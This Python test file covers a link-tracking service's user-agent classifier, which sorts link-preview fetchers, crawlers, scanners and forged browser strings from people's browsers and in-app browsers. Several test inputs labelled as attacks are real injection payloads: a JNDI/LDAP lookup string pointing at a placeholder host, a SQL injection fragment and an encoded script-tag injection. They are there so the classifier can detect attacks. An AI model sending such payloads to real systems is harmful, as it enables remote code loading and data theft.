"""People are told from programs by their user agent."""

import gzip
import json
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest
import user_agents
from examples import examples
from hypothesis import given, settings
from hypothesis import strategies as st

from linktrack.clicks.classify.agents import LONGEST, Agent, _crawler_lists, classify_agent

WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
PHONE = f"Mozilla/5.0 (Linux; Android 15; Pixel 9 Build/AP3A.241105.007; wv) {WEBKIT}"
IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15"
    " (KHTML, like Gecko) Mobile/15E148"
)
PIXEL = "(35/15; 420dpi; 1080x2424; Google/google; Pixel 9; tokay; tokay; en_GB)"
MAC = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko)"
    " Version/9.0.1 Safari/601.2.4"
)
CHROME = f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {WEBKIT} Chrome/130.0.0.0 Safari/537.36"


def lines(path: Path) -> Iterator[dict[str, object]]:
    """The JSON objects of a compressed file of lines."""
    with gzip.open(path, "rt", encoding="utf-8") as file:
        yield from map(json.loads, file)


@pytest.mark.parametrize("sent", [None, "", "  ", "-"])
def test_no_user_agent_is_a_reason_of_its_own(sent: str | None) -> None:
    """Who names nothing is not a person, and nothing else is said of it."""
    assert classify_agent(sent) == Agent("no-agent", "no-agent", None, None, None)


@pytest.mark.parametrize(
    ("sent", "rule"),
    [
        ("Twitterbot/1.0", "twitterbot"),
        (
            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
            "facebook",
        ),
        ("facebookcatalog/1.0", "facebook"),
        ("meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/)", "meta"),
        (f"{MAC} facebookexternalhit/1.1 Facebot Twitterbot/1.0", "imessage"),
        ("LinkedInBot/1.0 (compatible; Mozilla/5.0; +http://www.linkedin.com)", "linkedin"),
        ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "slack"),
        ("Slack-ImgProxy 1.136 (+https://api.slack.com/robots)", "slack"),
        ("Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", "discord"),
        ("TelegramBot (like TwitterBot)", "telegram"),
        ("WhatsApp/2.23.20.0", "whatsapp"),
        (f"{CHROME} SkypeUriPreview Preview/0.5", "skype"),
        ("Mozilla/5.0 (compatible; redditbot/1.0; +http://www.reddit.com/feedback)", "reddit"),
        ("http.rb/5.1.1 (Mastodon/4.2.1; +https://mastodon.example/)", "mastodon"),
        ("Mastodon/4.3.0 (http.rb/5.2.0; +https://mastodon.example/)", "mastodon"),
        ("Pleroma 2.6.0; https://pleroma.example <admin@pleroma.example>", "pleroma"),
        ("Akkoma 3.10.4; https://akko.example <a@akko.example>", "pleroma"),
        ("Misskey/2023.11.0 (https://misskey.example)", "misskey"),
        ("Sharkey/2024.9.1 (https://sharkey.example)", "misskey"),
        ("Iceshrimp.NET/2024.1 (https://iceshrimp.example)", "misskey"),
        ("Lemmy/0.19.3; +https://lemmy.example", "lemmy"),
        ("Friendica 'Giant Rhubarb' 2022.10-1484; https://friendica.example", "friendica"),
        ("PeerTube/6.0.2 (+https://peertube.example)", "peertube"),
        ("gotosocial/0.17.3 (+https://social.example)", "gotosocial"),
        ("Mozilla/5.0 (compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app)", "bluesky"),
        ("web:app.bsky:v0.0.1 (by support@bsky.app)", "bluesky"),
        ("Viber", "viber"),
        ("Mozilla/5.0 (compatible; Embedly/0.2; +http://support.embed.ly/)", "embedly"),
        ("Iframely/1.3.1 (+https://iframely.com/docs/about)", "iframely"),
        ("bitlybot/4.0 (+http://bit.ly/)", "bitly"),
        ("Snap URL Preview Service; bot; snapchat; https://developers.snap.com/robots", "snapchat"),
        ("facebookexternalhit/1.1; kakaotalk-scrap/1.0", "kakaotalk"),
        ("facebookexternalhit/1.1;line-poker/1.0", "line"),
        (f"{CHROME} (via ggpht.com GoogleImageProxy)", "google-image-proxy"),
        ("Mozilla/5.0 (compatible; Pinterestbot/1.0; +http://www.pinterest.com/)", "pinterest"),
    ],
)
def test_fetchers_of_link_previews_are_previews(sent: str, rule: str) -> None:
    """The networks' and messengers' card makers are named, each by its own rule."""
    found = classify_agent(sent)
    assert (found.reason, found.rule) == ("preview", f"preview:{rule}")


@pytest.mark.parametrize(
    ("sent", "rule"),
    [
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", None),
        ("curl/8.5.0", None),
        ("python-requests/2.32.3", None),
        (f"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} HeadlessChrome/120.0 Safari/537.36", None),
        (f"{CHROME} (+https://example.org/why)", "bot:address"),
        ("Mozilla/5.0 (compatible; Dormouse/1.0)", "bot:compatible"),
        ("${jndi:ldap://example.org/a}", "bot:attack"),
        ("Mozilla/5.0", "bot:bare"),
        ("dormouse", "bot:tool"),
        ("dormouse-http/2.1.0", "bot:tool"),
        ("Dormouse Report Runner", "bot:trade"),
        ("Mozilla/5.0 Dormouse/2.0", "bot:compatible"),
        (f"{CHROME.replace('like Gecko)', 'like Gecko; Dormouse/1.0)')}", "bot:compatible"),
        ("Mozilla/8.3 (Windows NT 10.0) Gecko/20100101 Firefox/99.0", "bot:forged"),
        ("dormouse.example.com/1.0", "bot:address"),
        ("-1' OR 3+1-1=3 --", "bot:attack"),
        ("newsboat/2.32.0 (Linux 5.4.0-167-generic; x86_64)", "bot:reader"),
        ("Akregator/5.24.5; syndication", "bot:reader"),
        ("lire/5.4 (iPhone; iOS 17.0)", "bot:reader"),
        (
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Thunderbird/128.5.0",
            "bot:reader",
        ),
    ],
)
def test_other_programs_are_bots(sent: str, rule: str | None) -> None:
    """Crawlers, libraries and scanners are bots, by a list or by a mark no person's agent has."""
    found = classify_agent(sent)
    assert found.reason == "bot"
    assert found.rule is not None and found.rule.startswith("bot:")
    assert rule in (None, found.rule)


@pytest.mark.parametrize(
    ("sent", "browser"),
    [
        (f"{IPHONE} [FBAN/FBIOS;FBAV/480.0.0.27.109;FBDV/iPhone14,5]", "Facebook app"),
        (f"{PHONE} Chrome/130.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/480.0;]", "Facebook app"),
        (f"{PHONE} Mobile Safari/537.36 [FB_IAB/MESSENGER;FBAV/480.0;]", "Messenger app"),
        (f"{PHONE} Mobile Safari/537.36 Instagram 330.0 Android {PIXEL}", "Instagram app"),
        (f"{IPHONE} Barcelona 350.0.0.28.94 (iPhone14,5; iOS 18_1)", "Threads app"),
        (f"{IPHONE} Twitter for iPhone/10.60", "X app"),
        (f"{IPHONE} [LinkedInApp]/9.30.1", "LinkedIn app"),
        (f"{IPHONE} Snapchat/13.10.0.41 (like Safari/8618.2.12, panda)", "Snapchat app"),
        (f"{IPHONE} [Pinterest/iOS]", "Pinterest app"),
        (f"{IPHONE} musical_ly_36.5.0 BytedanceWebview/d8a21c6", "TikTok app"),
        (f"{IPHONE} MicroMessenger/8.0.53 NetType/WIFI", "WeChat app"),
        (f"{IPHONE} Safari Line/14.18.0", "Line app"),
    ],
)
def test_browsers_inside_apps_are_people(sent: str, browser: str) -> None:
    """Who taps a link in an app is a person, and the app is named as the browser."""
    found = classify_agent(sent)
    assert (found.reason, found.rule, found.browser) == (None, None, browser)
    assert found.device == "mobile"


WINDOWS = f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {WEBKIT}"


@pytest.mark.parametrize(
    ("sent", "browser"),
    [
        (f"{IPHONE} WhatsApp/2.24.10.79", "WhatsApp"),
        (f"{IPHONE} [FBAN/WhatsAppSMB;FBAV/1.0]", "WhatsApp"),
        (f"{WINDOWS} WhatsApp/2.2 Chrome/124.0 Electron/30.0 Safari/537.36", "WhatsApp"),
        (f"{WINDOWS} Notion/3.0 Chrome/120.0 Electron/28.1 Safari/537.36", None),
        (f"{WINDOWS} Dormouse-Reader/3.0 Chrome/120.0 Electron/28.1 Safari/537.36", None),
        (f"{PHONE} Chrome/130.0 Mobile Safari/537.36 Dormouse/1 %7B%22uid%22%3A%221%22%7D", None),
        (f"{PHONE} Chrome/130.0 Mobile Safari/537.36 Bluesky/1.9", "Bluesky app"),
        (f"{CHROME} HbbTV/1.5.1 (+DRM;BOTECH;ATV R1;Demo 1.0;)", None),
        (f"{CHROME}/iBot7KTt-08", None),
        (f"{IPHONE} Reeder/5.4", None),
        (f"{IPHONE} Outlook-iOS/2.0", None),
        (f"{WINDOWS} mattermost-desktop/5.8 Chrome/124.0 Electron/30.0 Safari/537.36", None),
        ("Linux; U; Android 12; fa_US; NETBOX; Build/SP1A.211105.004; Cronet/114.0.5735.33", None),
        ("Lynx/2.8.8pre.3 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.0.1e", "Lynx"),
    ],
)
def test_a_browsers_shape_is_no_bots_by_a_loose_pattern(sent: str, browser: str | None) -> None:
    """What an app calls itself, or a word with "bot" in its middle, makes nobody a program."""
    found = classify_agent(sent)
    assert (found.reason, found.rule) == (None, None)
    assert browser in (None, found.browser)


@pytest.mark.parametrize(
    ("sent", "rule"),
    [
        ("Grafana/11.1.0", "bot:service"),
        ("Burp Suite", "bot:service"),
        ("azure-logic-apps/1.0 (workflow 0; version 1) microsoft-flow/1.0", "bot:service"),
        (f"{CHROME} Assetnote/1.0.0", "bot:service"),
        ("rocketmonitor 1.0", "bot:trade"),
        (f"{CHROME} DormouseAgent", "bot:trade"),
        (f"{CHROME} dormouse_scanner", "bot:trade"),
        ("Dormouse", "bot:name"),
        ("DormouseExternalHit/1.0", "bot:name"),
        (f"{CHROME} Screenshot/1.0", "bot:screenshot"),
        ("ApiFlash/1.0", "bot:screenshot"),
        (
            f"Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv) {WEBKIT} Moblie",
            "bot:forged",
        ),
        (f"{PHONE.replace('Android', 'Andriod')} Chrome/130.0 Mobile Safari/537.36", "bot:forged"),
        (f"{CHROME}%22%3E%3Cscript%3E", "bot:attack"),
        (f"{CHROME} DormouseBot/1.0", None),
    ],
)
def test_tools_by_their_bare_name_and_misspelt_browsers_are_bots(
    sent: str, rule: str | None
) -> None:
    """Scanners, monitors, automations and screenshot services are programs, as forgeries are."""
    found = classify_agent(sent)
    assert found.reason == "bot"
    assert rule in (None, found.rule)


@pytest.mark.parametrize("sent", ["LG-KU380", "HTC Desire", "iPhone14ProMax", "SAMSUNG-SGH-J200"])
def test_a_phone_that_sends_nothing_but_its_model_is_a_persons(sent: str) -> None:
    """Old phones say their maker and model, and nothing else."""
    assert classify_agent(sent).reason is None


@pytest.mark.parametrize(
    "model",
    [
        "CUBOT_X19",
        "CUBOT X18 Plus Build/O11019",
        "C Bot Tab 70",
        "HTC Butterfly 2",
        "ViewSonic A8+",
    ],
)
def test_phones_with_a_crawlers_name_are_people(model: str) -> None:
    """A phone's model is no reason to leave its owner out."""
    sent = f"Mozilla/5.0 (Linux; Android 9; {model}) {WEBKIT} Chrome/130.0 Mobile Safari/537.36"
    assert classify_agent(sent).reason is None


def test_a_crawler_that_claims_a_phone_stays_a_bot() -> None:
    """Overlooking the phone's model does not overlook what is said beside it."""
    sent = (
        f"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) {WEBKIT} Chrome/130.0"
        " Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    )
    assert classify_agent(sent).reason == "bot"
    beside = f"Mozilla/5.0 (Linux; Android 5.0.1; Nexus 6 Build/LRX22C; Catchpoint) {WEBKIT}"
    assert classify_agent(beside).reason == "bot"


def test_device_browser_and_system_are_named() -> None:
    """Families go without versions; what is not known is None."""
    assert classify_agent(CHROME) == Agent(None, None, "desktop", "Chrome", "Windows")
    ipad = f"{IPHONE.replace('iPhone;', 'iPad;')} Version/18.1 Safari/604.1"
    assert classify_agent(ipad).device == "tablet"
    curl = classify_agent("curl/8.5.0")
    assert (curl.device, curl.browser, curl.os) == ("other", "curl", None)


@pytest.mark.slow
def test_the_quick_crawler_list_says_what_the_package_says(shared_data: Path) -> None:
    """Matching in small letters finds exactly the crawlers that the package finds."""
    from crawlerdetect import CrawlerDetect

    slow, quick = CrawlerDetect(), dict(_crawler_lists())["crawlerdetect"]
    agents = [str(row["ua"]) for row in lines(shared_data / "ua" / "labelled_public.jsonl.gz")]
    bots = [str(row["ua"]) for row in lines(shared_data / "ua" / "labelled_public.jsonl.gz")
            if row["is_bot"]]  # fmt: skip
    for sent in agents[::100] + bots[::3]:
        assert quick(sent) == slow.is_crawler(sent), sent


def test_the_quick_way_says_what_user_agents_says(shared_data: Path) -> None:
    """Device, browser and system equal those of `user_agents.parse` on real agents."""
    clicks = lines(shared_data / "bitly" / "usagov_bitly_data2013-01-02-1357121350.jsonl.gz")
    real = Counter(str(click["a"]) for click in clicks if click.get("a"))
    compared = 0
    for sent, _ in real.most_common(100):
        slow = user_agents.parse(sent)
        found = classify_agent(sent)
        assert found.os == (None if slow.os.family == "Other" else slow.os.family)
        if not (found.browser or "").endswith(" app"):
            assert found.browser == (
                None if slow.browser.family == "Other" else slow.browser.family
            )
        assert (found.device == "tablet") == slow.is_tablet
        assert (found.device == "mobile") == (slow.is_mobile and not slow.is_tablet)
        compared += 1
    assert compared == 100


def test_labelled_agents_are_told_apart(shared_data: Path) -> None:
    """On labelled agents at least 97 % of programs are found and at most 0.25 % of people lost."""
    labelled = list(lines(shared_data / "ua" / "labelled_public.jsonl.gz"))
    programs = [str(row["ua"]) for row in labelled if row["is_bot"]][::10]
    people = [str(row["ua"]) for row in labelled if not row["is_bot"]]
    browsers = [sent for sent in people if sent.startswith(("Mozilla/", "Opera/"))][::200]
    found = sum(classify_agent(sent).reason is not None for sent in programs)
    lost = sum(classify_agent(sent).reason is not None for sent in browsers)
    assert len(programs) > 300 and found / len(programs) >= 0.97
    assert len(browsers) > 500 and lost / len(browsers) <= 0.0025


def test_only_the_first_thousand_characters_are_looked_at() -> None:
    """A very long agent costs no more than a long one."""
    assert classify_agent("x" * LONGEST + " Twitterbot/1.0").reason is None
    assert classify_agent("Twitterbot/1.0 " + "x" * 100_000).rule == "preview:twitterbot"


@settings(max_examples=examples(150), deadline=None)
@given(st.text(max_size=80) | st.text("\ud800\udfff\0()/;[]${}.@+ aZ09", max_size=80))
def test_any_text_is_classified(sent: str) -> None:
    """No text, half characters included, makes the classifier fail or contradict itself."""
    found = classify_agent(sent)
    assert found.reason in (None, "no-agent", "preview", "bot")
    assert (found.reason is None) == (found.rule is None)
    assert found.device in (None, "desktop", "mobile", "tablet", "other")
    assert classify_agent(sent) == found
